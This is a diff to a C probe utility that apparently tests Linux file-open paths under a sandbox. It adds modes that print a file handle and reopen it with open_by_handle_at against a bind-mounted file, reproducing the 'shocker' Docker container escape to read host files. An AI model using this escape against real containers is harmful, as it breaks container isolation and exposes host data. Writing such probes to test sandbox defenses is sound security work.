@@ -18,6 +18,12 @@
  *   handle PATH                name_to_handle_at + open_by_handle_at, against
  *                              PATH's directory (needs CAP_DAC_READ_SEARCH and
  *                              a filesystem that decodes handles)
+ *   name-handle PATH           prints PATH's handle as "TYPE HEX" (run on the host)
+ *   shocker MOUNTFILE TYPE HEX open_by_handle_at of that handle against the
+ *                              filesystem of MOUNTFILE (a file Docker bind-mounts
+ *                              from the host, /etc/hostname): a host file no path
+ *                              in the container names, as the "shocker" escape
+ *                              reaches it
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -134,6 +140,45 @@ static int by_handle(const char *path)
 	return read_one(fd);
 }
 
+static int name_handle(const char *path)
+{
+	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
+	int mount_id;
+
+	h->handle_bytes = MAX_HANDLE_SZ;
+	if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0)) {
+		perror("name_to_handle_at");
+		return 1;
+	}
+	printf("%d ", h->handle_type);
+	for (unsigned i = 0; i < h->handle_bytes; i++)
+		printf("%02x", h->f_handle[i]);
+	printf("\n");
+	free(h);
+	return 0;
+}
+
+static int shocker(const char *mountfile, const char *type, const char *hex)
+{
+	size_t n = strlen(hex) / 2;
+	struct file_handle *h;
+	int mfd, fd;
+
+	if (n > MAX_HANDLE_SZ)
+		return 1;
+	h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
+	h->handle_bytes = (unsigned)n;
+	h->handle_type = atoi(type);
+	for (size_t i = 0; i < n; i++)
+		sscanf(hex + 2 * i, "%2hhx", &h->f_handle[i]);
+	mfd = open(mountfile, O_RDONLY);
+	fd = open_by_handle_at(mfd, h, O_RDONLY);
+	if (fd < 0)
+		perror("open_by_handle_at");
+	free(h);
+	return read_one(fd);
+}
+
 static struct open_how race_how;
 static volatile int race_stop;
 
@@ -190,8 +235,12 @@ int main(int argc, char **argv)
 		return openat2_race(argv[2], atoi(argv[3]));
 	if (!strcmp(argv[1], "handle"))
 		return by_handle(argv[2]);
+	if (!strcmp(argv[1], "name-handle"))
+		return name_handle(argv[2]);
+	if (!strcmp(argv[1], "shocker") && argc > 4)
+		return shocker(argv[2], argv[3], argv[4]);
 usage:
 	fprintf(stderr, "usage: %s openat2|uring-open|uring-open2|uring-open-fixed|handle PATH | "
-			"uring-connect IP PORT\n", argv[0]);
+			"uring-connect IP PORT | name-handle PATH | shocker MOUNTFILE TYPE HEX\n", argv[0]);
 	return 2;
 }
